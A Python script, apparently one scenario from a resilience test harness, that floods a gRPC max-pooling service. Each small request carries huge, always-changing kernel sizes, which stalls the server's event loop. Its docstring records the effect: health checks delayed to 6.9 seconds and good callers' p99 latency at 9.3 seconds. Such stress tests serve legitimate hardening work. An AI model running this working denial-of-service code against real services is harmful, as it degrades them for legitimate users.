"""Small requests with long work: 64 kB, 16 times the maximum of 62,000 values at 1,001 positions.

Their bytes are few enough to run on the event loop. The attacker changes the kernel size each time, so that the server
has never seen their kind before.
"""

import asyncio
import itertools
import time
from collections import Counter
from typing import Any

import grpc
import grpc.aio

from poolservice.v1 import pool_pb2 as pb
from poolservice.v1.pool_pb2_grpc import PoolServiceStub
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = "health waits for 6.9 s, p99 of good callers 9.3 s"

_LENGTH = 63_000
_SPECS = 16
_CALLERS = 4


async def attack(target: Target, seconds: float) -> str:
    """Send such requests one after the other from a few callers."""
    until = time.monotonic() + seconds
    statuses: Counter[str] = Counter()
    numbers = itertools.count()
    async with grpc.aio.insecure_channel(target.address) as channel:
        stub: Any = PoolServiceStub(channel)

        async def call() -> None:
            while time.monotonic() < until:
                try:
                    await stub.Pool(_request(next(numbers)), timeout=10)
                except grpc.aio.AioRpcError as error:
                    statuses[error.code().name] += 1
                    # A refused caller that tries again at once is not the attack that is measured here.
                    await asyncio.sleep(0.01)
                else:
                    statuses["OK"] += 1

        await asyncio.gather(*(call() for _ in range(_CALLERS)))
    return ", ".join(f"{count} {status}" for status, count in sorted(statuses.items()))


def _request(number: int) -> pb.PoolRequest:
    kernels = [_LENGTH - 1_000 - (number * _SPECS + index) % 20_000 for index in range(_SPECS)]
    return pb.PoolRequest(
        specs=[
            pb.PoolSpec(spatial_dims=1, max_pool=pb.MaxPool(kernel_size=[kernel], stride=[1])) for kernel in kernels
        ],
        tensor=pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, _LENGTH], data=bytes(_LENGTH)),
    )
